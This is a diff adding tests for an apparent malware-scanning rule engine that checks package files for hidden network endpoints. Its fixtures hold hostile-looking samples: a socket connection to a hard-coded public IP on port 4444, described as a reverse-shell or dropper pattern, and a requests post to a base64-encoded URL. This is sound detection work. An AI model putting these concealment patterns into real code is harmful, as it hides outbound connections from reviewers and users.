@@ -166,3 +166,39 @@ def test_requests_from_code_that_spells_names_in_character_codes(engine: Engine)
     plain = "import requests\nrequests.post('https://x.example.net', data={'k': 1})\n"
     assert run_rule(engine, obfuscated_network_code_rule, sdist({"tidy/net.py": plain})) is None
     assert run_rule(engine, obfuscated_network_code_rule, sdist({"tests/t_net.py": hidden})) is None
+
+
+def test_socket_to_an_address_held_in_its_own_string(engine: Engine) -> None:
+    """``HOST = "45.12.77.3"`` then ``socket.create_connection((HOST, PORT))``: how a
+    reverse shell or a dropper names its server without writing a URL."""
+    code = (
+        "import os, socket\nHOST = os.getenv('H', '45.12.77.3')\n"
+        "s = socket.create_connection((HOST, 4444))\n"
+    )
+    evidence = run_rule(engine, raw_ip_endpoint_rule, sdist({"t/c.py": code}))
+    assert evidence[0]["file"].endswith("t/c.py")
+    assert "network" in evidence[0]["capabilities"]
+
+
+def test_addresses_that_identify_nobody_do_not_correlate(engine: Engine) -> None:
+    """Private and placeholder addresses, OID-like strings in files without network code,
+    and the same address in a shell script stay out."""
+    cases = {
+        "t/a.py": "import socket\nsocket.create_connection(('192.168.1.20', 80))\n",
+        "t/b.py": "import socket\nEXAMPLE = ('1.2.3.4', 123)\nsocket.create_connection(EXAMPLE)\n",
+        "t/oid.py": "SECP = '1.3.132.10'\n",
+        "t/s.sh": "HOST='45.12.77.3'\ncurl -s https://x.example.net/a\n",
+    }
+    for path, code in cases.items():
+        assert run_rule(engine, raw_ip_endpoint_rule, sdist({path: code})) is None, path
+
+
+def test_requests_imported_by_name_counts_as_network(engine: Engine) -> None:
+    """``from requests import post`` then ``post(...)``: the same call without the module."""
+    url = base64.b64encode(b"https://x.example.net/collect").decode()
+    code = (
+        "import base64\nfrom requests import post\n"
+        f"post(base64.b64decode('{url}').decode(), json={{'k': 1}})\n"
+    )
+    evidence = run_rule(engine, hidden_endpoint_rule, sdist({"t/h.py": code}))
+    assert "network" in evidence[0]["capabilities"]
